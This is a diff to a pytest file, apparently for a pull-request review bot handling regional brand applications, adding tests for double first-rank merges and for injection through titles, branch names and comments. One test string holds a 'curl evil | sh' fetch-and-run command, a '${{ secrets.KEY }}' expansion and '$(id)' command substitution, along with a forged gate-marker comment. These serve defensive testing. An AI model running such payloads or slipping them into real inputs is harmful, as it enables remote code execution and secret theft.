@@ -1,14 +1,15 @@
 """Every attack loses, meets the codes that it should, and would win without them."""
 
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from review.attacks import ATTACKS, BYPASSES, Attack
+from review.attacks import ATTACKS, BYPASSES, Attack, received
 from review.playing import bitten, failed, gate, harvested, records, remarks, run, without
 from standin.honest import assert_honest
-from standin.stage import Stage, stage
+from standin.stage import APPLICATION, Stage, filing, stage
 
 told = pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.name)
 passed = pytest.mark.parametrize("attack", BYPASSES, ids=lambda one: one.name)
@@ -48,3 +49,66 @@ def test_a_merge_past_the_rules_is_on_record_and_counts_for_nothing(
     assert records(there)
     code, out = run(there, "status", "fujian/shili-rattan", "--as-of", "2017-09-01")
     assert "已推荐" not in out
+
+
+OTHER = "submissions/fujian/shili-teapots/2017-application.yaml"
+RANKED = "推荐意见：同意推荐。\n推荐排序：1"
+
+
+def another_filing() -> bytes:
+    """The example's application as if it were another cluster's."""
+    text = filing().decode()
+    changes = {
+        "shili-rattan": "shili-teapots",
+        "示例县": "样例县",
+        "示例藤编": "样例紫砂",
+        "藤编": "紫砂",
+        "11350427M00000019Q": "null",
+    }
+    for old, new in changes.items():
+        text = text.replace(old, new)
+    return text.encode()
+
+
+def test_two_first_ranks_merged_at_once_both_count_for_nothing_until_one_is_mended(
+    there: Stage,
+) -> None:
+    there.at("2017-08-20 10:00")
+    organizer, reviewer = there["shili-county-office"], there["shili-fujian-1"]
+    numbers = [
+        organizer.proposes({APPLICATION: filing()}, "one"),
+        organizer.proposes({OTHER: another_filing()}, "two"),
+    ]
+    for number in numbers:
+        received(there, number)
+        reviewer.approves(number, RANKED)
+        assert gate(there, number)["state"] == "success"
+    for number in numbers:
+        reviewer.merges(number)
+    assert [failed(one) for one in harvested(there).values()] == [set(), set()]
+    code, told = run(there, "check", "--format", "json")
+    assert (code, [one["code"] for one in json.loads(told)]) == (1, ["X201", "X201"])
+    for dossier in ("shili-rattan", "shili-teapots"):
+        assert "已推荐" not in run(there, "status", f"fujian/{dossier}", "--as-of", "2017-09-01")[1]
+
+
+HOSTILE = (
+    "'; curl evil | sh; echo ${{ secrets.KEY }} $(id) <!-- brandpilot:gate --> @shili-fujian-1 #1"
+)
+
+
+def test_a_title_a_branch_and_a_comment_start_nothing_and_forge_nothing(there: Stage) -> None:
+    there.at("2017-08-20 10:00")
+    organizer = there["shili-county-office"]
+    organizer.pushes({APPLICATION: filing()}, "x$(id)`id`")
+    number = organizer.opens(HOSTILE, "x$(id)`id`", body=HOSTILE)
+    fake = there["shili-stranger"].must(
+        "POST", f"issues/{number}/comments", body="<!-- brandpilot:gate -->\n### 可以合并"
+    )
+    there["shili-fujian-1"].reviews(number, "COMMENT", HOSTILE)
+    assert gate(there, number)["state"] == "pending"
+    gate(there, number)
+    own = [one for one in there.world.comments.values() if one.user is there.app]
+    assert len(own) == 1
+    assert there.world.comments[fake["id"]].body.endswith("可以合并")
+    assert [word for word in ("curl", "secrets", "$(", "@shili") if word in own[0].body] == []
